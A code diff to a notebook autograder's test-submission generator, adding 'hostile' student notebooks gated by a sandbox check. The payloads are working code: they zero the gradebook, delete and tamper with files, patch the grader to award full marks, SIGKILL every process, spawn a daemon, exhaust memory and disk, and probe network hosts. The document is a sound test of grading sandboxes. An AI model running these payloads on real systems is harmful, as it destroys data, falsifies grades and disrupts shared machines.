@@ -10,6 +10,8 @@ writes ``DIR/<student>/<assignment>/<assignment>.ipynb`` for every chapter (or t
     tamper-<kind>         malformed JSON, another chapter's notebook, a renamed function, an endless loop
                           that swallows KeyboardInterrupt, os._exit(0), a deleted / edited / duplicated /
                           metadata-stripped test cell
+    hostile-<kind>        (with --hostile) the solution plus one attack on the grader or the classmates:
+                          see :func:`hostile`; armed only inside a grading sandbox
 
 and ``DIR/expected.json``: ``{assignment: {student: {status, score, max_score, below_full, fails,
 message, description}}}`` (``score`` is null where only "below full marks" is promised; ``message`` is
@@ -295,7 +297,7 @@ def tamper(assignment: str, root: Path | None = None, others: list[str] | None =
         cell = nb.cells[_cell_index(nb, gid)]
         cell.source = SWALLOWING_LOOP + cell.source
         fails = own_tests(gid, fails)
-        out["loop"] = (nb, expect("cell-timeout", None, f"cell {gid} exceeded the per-cell limit", fails,
+        out["loop"] = (nb, expect("cell-timeout", None, f"cell {gid}: this cell used more than", fails,
                                   below=bool(fails), what=f"endless loop swallowing KeyboardInterrupt in {gid}"))
 
         # os._exit(0) in the first solution cell
@@ -303,8 +305,9 @@ def tamper(assignment: str, root: Path | None = None, others: list[str] | None =
         nb = copy.deepcopy(full)
         cell = nb.cells[_cell_index(nb, gid)]
         cell.source = HARD_EXIT + cell.source
-        out["exit"] = (nb, expect("kernel-died", 0.0, f"kernel died in cell {gid}",
-                                  what=f"os._exit(0) in {gid}"))
+        fails = own_tests(gid, sol[0][2])
+        out["exit"] = (nb, expect("kernel-died", None, f"cell {gid}: the kernel died in it", fails, below=True,
+                                  what=f"os._exit(0) in {gid}, graded again without that cell"))
 
     if tests:
         first = tests[0]
@@ -348,6 +351,228 @@ def tamper(assignment: str, root: Path | None = None, others: list[str] | None =
 
 
 # ------------------------------------------------------------------------------------------------
+# hostile submissions: a learner who has read this repository and wants a better grade, or to hurt a classmate
+
+# Every hostile cell is armed only inside a grading sandbox (which shows the course under /course), so that
+# grading these submissions by mistake without one harms nobody; inside, it does its worst and prints one
+# "HOSTILE {json}" line saying what it achieved, read by the tests.
+ARMED = "import os as _os\nif not _os.path.exists('/course/sandbox_init.py'):\n    raise SystemExit('disarmed')\n"
+
+HOSTILE_REACH = ARMED + '''\
+# hostile: find the gradebook, the solutions, the grader's code and the classmates' copies; change what it can
+import glob, json, os, sqlite3
+known = {known!r}
+seen, written, deleted, read = set(), [], [], []
+roots = [*known, "/", os.path.expanduser("~"), *(v for v in os.environ.values() if v.startswith("/"))]
+for top in roots:
+    for dirpath, dirs, files in os.walk(top):
+        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")) or len(seen) > 20000:
+            dirs[:] = []
+            continue
+        for name in files:
+            path = os.path.join(dirpath, name)
+            if path in seen or path.startswith(os.getcwd()):
+                continue
+            seen.add(path)
+            if name.endswith((".db", ".csv", ".ipynb", ".html", ".txt")) or "servelab" in path:
+                try:
+                    if name.endswith(".db"):
+                        con = sqlite3.connect(path)
+                        con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
+                        con.execute("UPDATE source_cell SET source = 'raise SystemExit'")
+                        con.commit()
+                    with open(path, "a") as fh:
+                        fh.write("tampered")
+                    written.append(path)
+                except Exception:
+                    pass
+                try:
+                    os.remove(path)
+                    deleted.append(path)
+                except Exception:
+                    pass
+for pattern in ["/tmp/servelab-grade-*/**/*.ipynb", *(k + "/**/*" for k in known)]:
+    for path in glob.glob(pattern, recursive=True):
+        try:
+            read.append(path) if open(path, "rb").read(1) is not None else None
+        except Exception:
+            pass
+print("HOSTILE " + json.dumps({{"written": written, "deleted": deleted, "read": read[:50], "seen": len(seen)}}))
+'''
+
+HOSTILE_GRADER_SOURCE = ARMED + '''\
+# hostile: make the grader give everyone full marks, for this batch and the next ones
+import json, os, nbgrader.utils, servelab, servelab_autograder
+targets = [nbgrader.utils.__file__, servelab.__file__, servelab_autograder.__file__, *{known!r}]
+written = []
+for path in targets:
+    try:
+        with open(path, "a") as fh:
+            fh.write("\\ndef determine_grade(cell, log=None):\\n    return 100, 100\\n")
+        written.append(path)
+    except Exception:
+        pass
+print("HOSTILE " + json.dumps({{"written": written}}))
+'''
+
+HOSTILE_KILL = ARMED + '''\
+# hostile: kill the grader (and everything else it can see), so that the batch dies
+import os, signal
+for pid in [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+os.kill(-1, signal.SIGKILL)
+'''
+
+HOSTILE_DAEMON = ARMED + '''\
+# hostile: a daemon that outlives grading (setsid + double fork), to meddle with later submissions
+import os, subprocess, sys
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(10**6)", "{marker}"], start_new_session=True)
+    os._exit(0)
+os.wait()
+'''
+
+HOSTILE_MEMORY = ARMED + '''\
+# hostile: take the machine's memory
+hog = bytearray(6 * 2**30)
+'''
+
+HOSTILE_FLOOD = ARMED + '''\
+# hostile: 100 MB on one line, to blow up the autograded notebook and the feedback page
+print("x" * 100_000_000)
+'''
+
+HOSTILE_PROCESSES = ARMED + '''\
+# hostile: a fork bomb, to starve classmates graded at the same time
+import json, threading, time
+started = 0
+try:
+    for _ in range(500):
+        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
+        started += 1
+except Exception as err:
+    error = type(err).__name__
+else:
+    error = None
+print("HOSTILE " + json.dumps({"started": started, "error": error}))
+'''
+
+HOSTILE_NETWORK = ARMED + '''\
+# hostile: send the hidden tests out, or reach a service of the grading machine
+import json, socket
+reached = []
+for host, port in [("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.0.1", 80)]:
+    try:
+        socket.create_connection((host, port), timeout=2).close()
+        reached.append(f"{host}:{port}")
+    except OSError:
+        pass
+print("HOSTILE " + json.dumps({"reached": reached}))
+'''
+
+HOSTILE_DISK = ARMED + '''\
+# hostile: fill the grading machine's disk
+import json
+wrote = 0
+try:
+    with open("big.bin", "wb") as fh:
+        for _ in range(4096):
+            fh.write(b"\\0" * 2**20)
+            wrote += 2**20
+except OSError as err:
+    print("HOSTILE " + json.dumps({"wrote_mib": wrote // 2**20, "error": err.strerror}))
+'''
+
+EXIT_CALL = "\nexit()  # hostile: end the kernel here\n"
+SYS_EXIT_CALL = "\nimport sys\nsys.exit(0)  # hostile: raise SystemExit here\n"
+SPIN = "while True:  # load test: computes forever (CPU)\n    pass\n"
+SLEEP = "import time\ntime.sleep(10**6)  # load test: waits forever (no CPU)\n"
+SPIN_FOR = "import time\nt = time.process_time()\nwhile time.process_time() - t < 2.5:  # load test: 2.5 CPU-seconds\n    pass\n"
+HOG = ("import subprocess, sys, time  # load test: 3 x 500 MiB, held\n"
+       "hogs = [subprocess.Popen([sys.executable, '-c', 'b = b\"x\" * (500 * 2**20); import time; time.sleep(600)'])\n"
+       "        for _ in range(3)]\ntime.sleep(600)\n")
+DAEMON_MARKER = "servelab-hostile-daemon"
+
+
+def _with_cell(nb, source: str, after: int = 0):
+    """``nb`` with a learner's own code cell (no grading metadata) inserted after code cell number ``after``."""
+    nb = copy.deepcopy(nb)
+    codes = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
+    nb.cells.insert(codes[after] + 1, nbformat.v4.new_code_cell(source))
+    return nb
+
+
+def hostile(assignment: str, root: Path | None = None, known: list[str] | None = None) -> dict[str, tuple]:
+    """kind -> (notebook or raw text, expected outcome): the complete solution plus one hostile act each.
+
+    ``known``: host paths an attacker would aim at (the grading output folder, the submissions); the repo's
+    own gradebook, solutions and grader source are always among them. Each deserves what its honest part
+    earns: full marks, except where the act costs its own exercise (``exit()`` in a solution cell)."""
+    root = root or repo_root()
+    full = complete_submission(assignment, root)
+    top = max_score(full)
+    known = [str(root / "autograder"), str(root / "solutions"), str(root / "lib"), *(known or [])]
+    tests = [grade_id(c) for c in full.cells if is_test(c)]
+    sol = [grade_id(c) for c in full.cells if is_solution(c)]
+
+    def expect(status, score=top, message="", fails=(), what="", keeps=()):
+        return {"status": status, "score": score, "max_score": top, "below_full": score is None, "fails": list(fails),
+                "message": message, "description": what, "keeps": list(keeps)}
+
+    out = {
+        "gradebook": (_with_cell(full, HOSTILE_REACH.format(known=known)),
+                      expect("ok", what="rewrites the gradebook, classmates' copies and feedback it can find")),
+        "grader-source": (_with_cell(full, HOSTILE_GRADER_SOURCE.format(
+            known=[str(p) for p in sorted((root / "autograder" / "servelab_autograder").glob("*.py"))])),
+            expect("ok", what="appends a full-marks determine_grade to nbgrader's and the grader's source")),
+        "kill": (_with_cell(full, HOSTILE_KILL), expect("kernel-died", message="the kernel died in it",
+                                                        what="SIGKILL to its parent, every visible pid and -1")),
+        "daemon": (_with_cell(full, HOSTILE_DAEMON.format(marker=DAEMON_MARKER)),
+                   expect("ok", what="a setsid + double-fork daemon")),
+        "memory": (_with_cell(full, HOSTILE_MEMORY), expect("ok", what="a 6 GiB allocation")),
+        "flood": (_with_cell(full, HOSTILE_FLOOD), expect("ok", what="100 MB printed on one line")),
+        "processes": (_with_cell(full, HOSTILE_PROCESSES), expect("ok", what="500 threads")),
+        "network": (_with_cell(full, HOSTILE_NETWORK), expect("ok", what="connects out and to local services")),
+        "disk": (_with_cell(full, HOSTILE_DISK), expect("ok", what="writes 4 GiB into its working folder")),
+    }
+    if len(sol) >= 2:
+        # exit() at the end of a middle solution cell: the cells before it keep their points
+        gid = sol[len(sol) // 2]
+        nb = copy.deepcopy(full)
+        nb.cells[_cell_index(nb, gid)].source += EXIT_CALL
+        before = [t for t in tests if _cell_index(full, t) < _cell_index(full, gid)]
+        out["exit"] = (nb, expect("kernel-died", None, f"cell {gid} ended the kernel (it called exit() or quit())",
+                                  what=f"exit() at the end of {gid}", keeps=before))
+        nb = copy.deepcopy(full)
+        nb.cells[_cell_index(nb, gid)].source += SYS_EXIT_CALL
+        out["sys-exit"] = (nb, expect("ok", message=f"cell {gid} called sys.exit()",
+                                      what=f"sys.exit(0) at the end of {gid}"))
+    text = nbformat.writes(full).replace('"cells": [', '"cells": [{"cell_type": "markdown", "id": "lone", '
+                                         '"metadata": {}, "source": "\\ud800"}, ', 1)
+    out["surrogate"] = (text, expect("malformed", 0.0, "lone surrogate", what="JSON holding a lone surrogate escape"))
+    return out
+
+
+def load_test(assignment: str, root: Path | None = None) -> dict[str, object]:
+    """Complete notebooks with one learner's cell that runs into a limit, for a grader run with small limits:
+    ``spin`` computes forever (the cell's CPU limit), ``sleep`` waits forever (the wall-clock backstop),
+    ``hog`` holds 1.5 GiB in three processes (the sandbox's memory limit), ``slow`` spends 2.5 CPU-seconds in
+    each of ten cells (the notebook's CPU limit)."""
+    full = complete_submission(assignment, root)
+    slow = full
+    for _ in range(10):
+        slow = _with_cell(slow, SPIN_FOR)
+    return {"spin": _with_cell(full, SPIN), "sleep": _with_cell(full, SLEEP), "hog": _with_cell(full, HOG),
+            "slow": slow}
+
+
+# ------------------------------------------------------------------------------------------------
 
 
 def all_submissions(assignment: str, root: Path | None = None, others: list[str] | None = None) -> dict:
@@ -371,19 +596,31 @@ def all_submissions(assignment: str, root: Path | None = None, others: list[str]
     return subs
 
 
-def write_submissions(directory: Path, assignments: list[str] | None = None, root: Path | None = None) -> dict:
-    """Write every submission of every chapter into ``directory``; returns (and writes) expected.json."""
+def write_one(directory: Path, student: str, assignment: str, nb) -> Path:
+    """``directory/<student>/<assignment>/<assignment>.ipynb`` holding ``nb`` (a notebook or raw text)."""
+    path = Path(directory) / student / assignment / f"{assignment}.ipynb"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(nb if isinstance(nb, str) else nbformat.writes(nb), encoding="utf-8")
+    return path
+
+
+def write_submissions(directory: Path, assignments: list[str] | None = None, root: Path | None = None,
+                      with_hostile: bool = False, known: list[str] | None = None) -> dict:
+    """Write every submission of every chapter into ``directory`` (with ``with_hostile``, the hostile ones
+    too, aimed at ``known`` paths besides the repository and ``directory``); returns (and writes) expected.json."""
     root = root or repo_root()
-    known = [a for a in chapters(root) if release_notebook(root, a).is_file()]
-    assignments = assignments or known
+    chapters_released = [a for a in chapters(root) if release_notebook(root, a).is_file()]
+    assignments = assignments or chapters_released
     directory = Path(directory)
     expected: dict[str, dict] = {}
     for a in assignments:
         expected[a] = {}
-        for student, (nb, exp) in all_submissions(a, root, known).items():
-            path = directory / student / a / f"{a}.ipynb"
-            path.parent.mkdir(parents=True, exist_ok=True)
-            path.write_text(nb if isinstance(nb, str) else nbformat.writes(nb), encoding="utf-8")
+        subs = all_submissions(a, root, chapters_released)
+        if with_hostile:
+            subs.update({f"hostile-{k}": v for k, v in
+                         hostile(a, root, [str(directory.resolve()), *(known or [])]).items()})
+        for student, (nb, exp) in subs.items():
+            write_one(directory, student, a, nb)
             expected[a][student] = exp
     (directory / "expected.json").write_text(json.dumps(expected, indent=1) + "\n", encoding="utf-8")
     return expected
@@ -394,6 +631,8 @@ def main(argv: list[str] | None = None) -> int:
                                      formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("directory", type=Path, help="where to write <student>/<assignment>/<assignment>.ipynb")
     parser.add_argument("assignments", nargs="*", help="chapters (default: all)")
+    parser.add_argument("--hostile", action="store_true",
+                        help="also the hostile submissions (armed only inside a grading sandbox)")
     args = parser.parse_args(argv)
     known = chapters()
     unknown = [a for a in args.assignments if a not in known]
@@ -404,7 +643,7 @@ def main(argv: list[str] | None = None) -> int:
     if unreleased:
         print(f"no release in course/ for {', '.join(unreleased)}: run `make release`", file=sys.stderr)
         return 2
-    expected = write_submissions(args.directory, args.assignments or None)
+    expected = write_submissions(args.directory, args.assignments or None, with_hostile=args.hostile)
     for a, subs in expected.items():
         print(f"{a}: {len(subs)} submissions ({', '.join(subs)})")
     print(f"expected outcomes: {args.directory / 'expected.json'}")
